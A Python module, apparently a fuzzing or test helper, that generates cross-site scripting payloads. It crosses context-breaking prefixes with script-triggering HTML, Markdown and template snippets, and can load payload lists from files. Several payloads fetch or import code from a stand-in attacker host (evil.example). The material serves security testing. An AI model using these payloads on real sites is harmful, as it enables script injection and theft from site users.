"""Texts that try to run code on a page: from lists that are at hand, else made here.

Public lists are not ours to publish; name a file or folder of them, a payload a line, and all are
used. Those made here combine what starts a script with what leaves the place where a text stands.
"""

from __future__ import annotations

import itertools
from pathlib import Path

_LEAVES = (
    "",
    '">',
    "'>",
    "</title>",
    "</h1>",
    "</textarea></script>",
    "-->",
    "]]>",
    "`>",
    '" autofocus ',
    '\\">',
    "&quot;&gt;",
    "]](x)",
    "|",
    "*[",
    "<!--",
)
_STARTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}//",
    "<svg onload={}>",
    "<svg><script>{}</script>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<input autofocus onfocus={}>",
    "<a href=javascript:{}>x</a>",
    "<math><a xlink:href=javascript:{}>x",
    "<form action=javascript:{}><button>x",
    "<base href=javascript:/><a href={}>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "<p id=__config>{}</p>",
    "<style>@import '//evil.example/{}';</style>",
    "![x](javascript:{})",
    "[x](javascript:{})",
    "[x](&#106;avascript:{})",
    "![x](y){{ onerror={} }}",
    "[x]: javascript:{}",
    "<javascript:{}>",
    '--8<-- "{}"',
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "``` {{ onclick={} }}",
    '!!! x "{}"',
    "on{{}}error={}",
)
_RUNS = ("alert(1)", "import('//evil.example/x')", "fetch('//evil.example')", "top.ran=1")


def make_payloads() -> list[str]:
    """Every combination of a way out, a start and something to run."""
    return [
        leave + start.format(run)
        for leave, start, run in itertools.product(_LEAVES, _STARTS, _RUNS)
    ]


def read_payloads(place: Path | None) -> list[str]:
    """The payloads of a file, or of a folder of files, each once; those made here if none."""
    if place is None:
        return make_payloads()
    files = sorted(place.iterdir()) if place.is_dir() else [place]
    lines = (
        line.strip()
        for file in files
        for line in file.read_text("utf-8", "replace").replace("\r", "\n").split("\n")
    )
    return list(dict.fromkeys(line for line in lines if line))
